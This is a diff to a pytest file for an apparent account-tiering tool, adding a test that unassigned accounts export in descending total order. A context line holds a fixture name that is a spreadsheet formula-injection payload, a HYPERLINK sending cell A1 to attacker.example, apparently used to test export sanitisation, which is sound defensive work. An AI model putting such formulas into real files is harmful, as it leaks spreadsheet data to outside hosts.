@@ -9,6 +9,7 @@ import shutil
 from pathlib import Path
 
 import pyarrow as pa
+import pyarrow.compute as pc
 import pyarrow.parquet as pq
 import pytest
 
@@ -17,7 +18,7 @@ from tierwise.jobs import tier_file
 from tierwise.model import default_model_text
 from tierwise.report import SalesforceFields, export_results
 from tierwise.report.people import why
-from tierwise.sample import DEMO_AS_OF, build_demo_portfolio
+from tierwise.sample import DEMO_AS_OF, build_demo_portfolio, generate_portfolio
 
 CASE_18_NAMES = {
     "acc-1": '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
@@ -52,6 +53,19 @@ def test_parquet_is_ordered_by_tier_then_rank(demo_run: Path, tmp_path: Path) ->
     order = list(zip(tiers, ranks, strict=True))
 
     assert order == sorted(order)
+
+
+def test_unassigned_accounts_are_exported_highest_total_first(tmp_path: Path) -> None:
+    accounts = tmp_path / "accounts.parquet"
+    pq.write_table(generate_portfolio(2000, seed=3), accounts)
+    tier_file(accounts, tmp_path / "run", DEMO_AS_OF)
+
+    exported = pq.read_table(export_results(tmp_path / "run", "parquet", tmp_path).path)
+    unassigned = exported.filter(pc.equal(exported["tier"], "unassigned"))
+    totals = unassigned["total"].to_pylist()
+
+    assert len(totals) > 100
+    assert totals == sorted(totals, reverse=True)
 
 
 def test_the_csv_for_people_has_the_workbook_columns_and_a_byte_order_mark(
